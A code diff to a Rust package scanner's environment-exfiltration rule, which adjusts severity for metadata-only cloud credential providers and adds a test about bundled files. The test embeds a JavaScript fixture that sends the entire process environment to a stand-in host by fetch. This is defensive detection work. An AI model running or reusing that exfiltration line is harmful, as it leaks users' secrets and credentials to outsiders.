@@ -34,7 +34,8 @@ diligence_finding::declare_rule! {
     /// `{ env: process.env }` is recognised and skipped; crash reporters that attach the whole environment are
     /// reported, on purpose. Package managers send npm configuration taken from the environment
     /// (`npm_config_*`) to the package registry: medium. API clients send their own token (`GITHUB_TOKEN` to the API they wrap): one
-    /// secret variable on a path is medium, a weak signal on its own.
+    /// secret variable on a path is medium, a weak signal on its own; low in a cloud credential provider whose only
+    /// destination is the instance-metadata endpoint (`AWS_CONTAINER_CREDENTIALS_RELATIVE_URI` is its path there).
     pub static ENV_EXFILTRATION = { id: "code/env-exfiltration", severity: Severity::Critical };
 }
 
@@ -67,6 +68,9 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
 }
 
 fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
+    // A credential provider sends `AWS_CONTAINER_CREDENTIALS_RELATIVE_URI` to the metadata
+    // endpoint it was made for (see `cloud_metadata`).
+    let metadata_only = super::cloud_metadata::metadata_only(p);
     flows(p, &[SourceKind::EnvAll, SourceKind::EnvSecret], OUT)
         .take(20)
         .map(|path| {
@@ -78,6 +82,7 @@ fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
                 _ if path.sink == SinkKind::Dns || exfil_destination(path.dest.as_deref()) => {
                     Severity::Critical
                 }
+                _ if metadata_only => Severity::Low,
                 _ => Severity::Medium,
             };
             let what = if path.source == SourceKind::EnvAll {
@@ -250,6 +255,20 @@ mod tests {
             "{:?}",
             s.findings
         );
+    }
+
+    /// The same env → helpers → send path is critical in a small file and at most medium in a
+    /// bundle, where context-insensitive flow joins every caller of a shared helper.
+    #[test]
+    fn long_paths_inside_a_bundle_are_medium() {
+        let code = "function a(x) { return b(x); }\nfunction b(x) { return c(x); }\nfunction c(x) { return d(x); }\nfunction d(x) { return x; }\nconst body = a(JSON.stringify(process.env));\nfetch('https://collect.example.net/e', { method: 'POST', body });\n";
+        let small = scan(&[("package.json", PJ), ("a.js", code)]);
+        let f = crate::rules::test_util::finding(&small, "code/env-exfiltration");
+        assert_eq!(f.severity, diligence_finding::Severity::Critical, "{f:?}");
+        let padded = format!("{code}/*{}*/\n", "x".repeat(crate::rules::BUNDLE_BYTES));
+        let big = scan(&[("package.json", PJ), ("a.js", padded.as_str())]);
+        let f = crate::rules::test_util::finding(&big, "code/env-exfiltration");
+        assert_eq!(f.severity, diligence_finding::Severity::Medium, "{f:?}");
     }
 
     #[test]
